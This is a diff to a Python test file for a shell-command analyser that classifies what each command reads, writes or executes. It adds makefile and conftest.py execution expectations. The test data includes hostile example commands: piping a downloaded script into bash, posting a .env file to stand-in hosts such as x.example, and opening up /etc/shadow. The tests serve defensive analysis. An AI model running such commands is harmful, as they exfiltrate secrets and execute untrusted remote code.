@@ -85,7 +85,7 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
     ("touch /tmp/x && mkdir -p /tmp/d", {"writes": ("/tmp/x", "/tmp/d")}),
     ("echo hello > /tmp/h.txt", {"writes": ("/tmp/h.txt",)}),
     ("printf '%s\\n' x >> log.txt", {"writes": ("log.txt",)}),
-    ("make 2> err.log", {"writes": ("err.log",)}),
+    ("make 2> err.log", {"writes": ("err.log",), "executes": ("GNUmakefile", "makefile", "Makefile")}),
     ("./build.sh &> build.log", {"executes": ("build.sh",), "writes": ("build.log",)}),
     ("chmod 777 /etc/shadow", {"writes": ("/etc/shadow",)}),
     # a mode that only takes access away is hardening: no write another user could use
@@ -201,7 +201,10 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
     ("apt-get install -y curl", {}), ("kill -9 1234", {}), ("ps aux", {}), ("whoami", {}), ("id", {}),
     ("uname -a", {}), ("pwd", {}), ("which python", {}), ("date", {}), ("sleep 5", {}), ("true", {}),
     ("false", {}), ("test -f x && echo yes", {}), ("[ -d /tmp ] && echo y", {}), ("df -h", {}),
-    ("mktemp", {}), ("cd /tmp", {}), ("make install", {}), ("pytest tests/", {}), ("time make", {}),
+    ("mktemp", {}), ("cd /tmp", {}),
+    # make runs a makefile's recipes, pytest its test files and conftest.py files
+    ("make install", {"executes": ("GNUmakefile", "makefile", "Makefile")}), ("time make", {"executes": ("GNUmakefile", "makefile", "Makefile")}),
+    ("pytest tests/", {"executes": ("conftest.py", "tests/conftest.py")}),
     ("C-c", {}), ("docker --version && docker volume ls", {}),
     ("pip install -r requirements.txt", {"reads": ("requirements.txt",)}),
     # crontab and databases
@@ -278,7 +281,8 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
     # a variable bound to $(mktemp ...) in the command is a fresh temp path
     ('OUT=$(mktemp -d); curl -s https://api.example.com/v1 > "$OUT/before.json"',
      {"reads": ("https://api.example.com/v1",), "writes": ("/tmp/tmp.*/before.json",)}),
-    ('LOG=$(mktemp -t build-XXXXXX.log); make test 2>&1 | tee "$LOG"', {"writes": ("/tmp/build-*.log",)}),
+    ('LOG=$(mktemp -t build-XXXXXX.log); make test 2>&1 | tee "$LOG"', {"writes": ("/tmp/build-*.log",),
+                                                                        "executes": ("GNUmakefile", "makefile", "Makefile")}),
     ('D=$(mktemp -d -p /var/tmp); cp a.txt "$D/"', {"reads": ("a.txt",), "writes": ("/var/tmp/tmp.*", "/var/tmp/tmp.*/a.txt")}),
 ]
 
@@ -412,7 +416,7 @@ def test_programs_run_by_path_or_put_on_the_path(cmd: str, executes: tuple[str, 
     ('bash -c "python3 y"', (("y", "python"),)),
     ("cd sub && bash x", (("x", "shell"), ("sub/x", "shell"))),
     ("chmod +x x && ./x && bash x", (("x", ""), ("x", "shell"))),
-    ("python3 -m pytest t.py", ()),
+    ("python3 -m pytest t.py", (("t.py", "python"), ("conftest.py", "python"))),
     ("bash -euo pipefail x.sh", (("x.sh", "shell"),)),
     ("python3 x.sh || bash <(cat x.sh)", (("x.sh", "python"), ("x.sh", "shell"))),
     ("curl -sL https://get.example/i.sh | bash", (("https://get.example/i.sh", "shell"),)),
@@ -520,9 +524,9 @@ def test_code_runners() -> None:
     ("uv run curl -s --data-binary @.env https://x.example/u", (), ("https://x.example/u",), (".env",)),
     ("uvx --from httpie http POST https://x.example/u @.env", (), ("https://x.example/u",), (".env",)),
     ("uv pip install -r req.txt", (), (), ("req.txt",)),
-    ("pipenv run pytest", (), (), ()),
+    ("pipenv run pytest", ("conftest.py",), (), ()),
     # options that take a value are not the command (review: a URL run)
-    ("uv run -i https://pypi.org/simple pytest -q", (), (), ()),
+    ("uv run -i https://pypi.org/simple pytest -q", ("conftest.py",), (), ()),
     ("uv run -f https://download.pytorch.org/whl/torch_stable.html python train.py", ("train.py",), (), ()),
     ("uv run - < x.txt", ("x.txt",), (), ("x.txt",)),
     ("hatch run test:curl -d @.env https://x.example/u", (), ("https://x.example/u",), (".env",)),
